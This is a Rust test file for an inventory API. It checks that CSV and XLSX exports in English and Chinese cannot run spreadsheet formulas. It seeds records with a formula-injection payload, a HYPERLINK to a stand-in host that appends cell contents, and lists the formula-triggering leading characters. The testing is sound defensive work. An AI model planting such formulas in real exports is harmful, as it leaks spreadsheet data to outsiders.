//! Tables that run nothing: every answer that is a table, in both languages, with names that a spreadsheet program would
//! run.

use std::collections::BTreeSet;
use std::io::Read as _;

use serde_json::{Value, json};

use crate::app::{Answer, TestApp};
use crate::cases::cases;
use crate::rules::adopt;

cases![no_answer_that_is_a_table_runs_a_name, a_guarded_name_comes_back_through_the_import];

/// A name that would send the content of the table to a stranger.
const NAME: &str = "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")";

/// The characters with which no cell may begin.
const SIGNS: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

/// Operations that answer with a table, and a request for each with a name in it: every one that writes a table of its own, and
/// of the lists, which share one function, some.
const TABLES: [(&str, &[&str]); 13] = [
    ("list_audit", &["/api/v1/audit?format=csv", "/api/v1/audit?format=xlsx"]),
    ("list_items", &["/api/v1/items?format=csv", "/api/v1/items?format=xlsx"]),
    ("list_item_history", &["/api/v1/items/BOOTS/history?format=csv"]),
    ("list_organizations", &["/api/v1/organizations?format=csv"]),
    ("list_depots", &["/api/v1/depots?organization=T1&format=csv"]),
    ("list_shortages", &["/api/v1/shortages?format=csv", "/api/v1/shortages?format=csv&profile=ledger"]),
    ("list_organization_statuses", &["/api/v1/organization-statuses?format=csv"]),
    (
        "summarize_shortages",
        &[
            "/api/v1/shortages/summary?group_by=organization&format=csv",
            "/api/v1/shortages/summary?group_by=item&format=csv",
        ],
    ),
    ("list_stock", &["/api/v1/stock?format=csv&profile=ledger", "/api/v1/stock?format=csv&profile=hazchem-enterprise"]),
    ("list_counts", &["/api/v1/counts?format=csv&profile=ledger", "/api/v1/counts?format=xlsx&profile=ledger"]),
    ("list_expiring_lots", &["/api/v1/expiring?format=csv&profile=ledger&expired=true&within_days=3650"]),
    (
        "export_count_list",
        &["/api/v1/depots/T1-A/count-list?format=csv", "/api/v1/depots/T1-A/count-list?last_counted=true"],
    ),
    (
        "export_tables",
        &[
            "/api/v1/export",
            "/api/v1/export?form=items&format=csv",
            "/api/v1/export?form=organizations&format=csv",
            "/api/v1/export?form=organizations&format=csv&encoding=gb18030",
        ],
    ),
];

/// The pages of lists that share the function which writes tables, beside `Page`.
const OF_ONE_FUNCTION: [&str; 3] = ["/StockPage", "/ExpiringPage", "/FactCheckPage"];

/// The operations of the document that answer with a table, except lists, which come in pages of JSON too.
fn with_tables_of_their_own() -> BTreeSet<String> {
    let document: Value = serde_json::from_str(include_str!("../../openapi/openapi.json")).unwrap();
    let operations =
        document["paths"].as_object().unwrap().values().flat_map(|path| path.as_object().unwrap().values());
    let is_table = |kind: &String| kind == "text/csv" || kind.contains("spreadsheet");
    operations
        .filter(|operation| {
            let content = operation["responses"]["200"]["content"].as_object();
            let page = &operation["responses"]["200"]["content"]["application/json"]["schema"]["$ref"];
            let is_page = page
                .as_str()
                .is_some_and(|name| name.contains("/Page") || OF_ONE_FUNCTION.iter().any(|page| name.ends_with(page)));
            content.is_some_and(|content| content.keys().any(is_table)) && !is_page
        })
        .map(|operation| operation["operationId"].as_str().unwrap().to_owned())
        .collect()
}

fn look(path: &str, answer: &Answer) {
    if answer.header("content-type").starts_with("text/csv") {
        let (text, _, _) = if path.contains("gb18030") {
            encoding_rs::GB18030.decode(&answer.body)
        } else {
            encoding_rs::UTF_8.decode(&answer.body)
        };
        assert!(text.contains("HYPERLINK"), "{path}: {text}");
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
        for row in reader.records() {
            for cell in &row.unwrap() {
                assert!(!cell.trim_start().starts_with(SIGNS), "{path}: {cell}");
            }
        }
        return;
    }
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(&answer.body)).unwrap();
    for number in 0..archive.len() {
        let mut part = archive.by_index(number).unwrap();
        let mut xml = String::new();
        let name = part.name().unwrap().into_owned();
        part.read_to_string(&mut xml).unwrap();
        assert!(!name.contains("/sheet") || !xml.contains("<f>"), "{path}: {name}");
    }
}

async fn name_things(app: &TestApp) {
    adopt(app).await;
    for path in ["/organizations/T1", "/organizations/E1"] {
        let known = app.read(path).await;
        let mut body = json!({"name_en": NAME, "name_zh": NAME, "active": true});
        for field in ["organization_type", "sector"] {
            body[field] = known[field].clone();
        }
        app.put_on(path, "officer", &body, Some("*")).await.expect(200);
    }
    let known = app.read("/items/BOOTS").await;
    let mut body = json!({"name_en": NAME, "name_zh": NAME});
    for field in ["class", "kind", "perishable", "packs", "barcodes"] {
        body[field] = known[field].clone();
    }
    app.put_on("/items/BOOTS", "officer", &body, Some("*")).await.expect(200);
    let lots =
        json!([{"item": "BOOTS", "quantity": 2, "lot": NAME, "expires_on": "2027-01-31", "note": NAME, "place": "=1"}]);
    app.count("t1", "T1-A", lots).await;
}

async fn no_answer_that_is_a_table_runs_a_name(app: TestApp) {
    let listed: BTreeSet<String> = TABLES.iter().map(|(operation, _)| (*operation).to_owned()).collect();
    assert!(listed.is_superset(&with_tables_of_their_own()), "an operation that answers with a table is tried here");
    name_things(&app).await;
    for (_, paths) in TABLES {
        for path in paths {
            for language in ["en", "zh-CN"] {
                let caller = if path.contains("audit") { "admin" } else { "officer" };
                let answer = app.get(path).as_(caller).header("accept-language", language).send().await;
                assert_eq!(answer.status, 200, "{path}");
                look(path, &answer);
            }
        }
    }
}

async fn a_guarded_name_comes_back_through_the_import(app: TestApp) {
    name_things(&app).await;
    for form in ["items", "organizations"] {
        for query in ["", "&encoding=gb18030"] {
            let path = format!("/api/v1/export?form={form}&format=csv{query}");
            let table = app.get(&path).as_("officer").send().await;
            let media_type = table.header("content-type").to_owned();
            let import = app.post(&format!("/api/v1/import?form={form}")).as_("officer");
            let report = import.body(&media_type, table.body).send().await.expect(200);
            assert_eq!(report["revision"], Value::Null, "{report}");
        }
    }
}
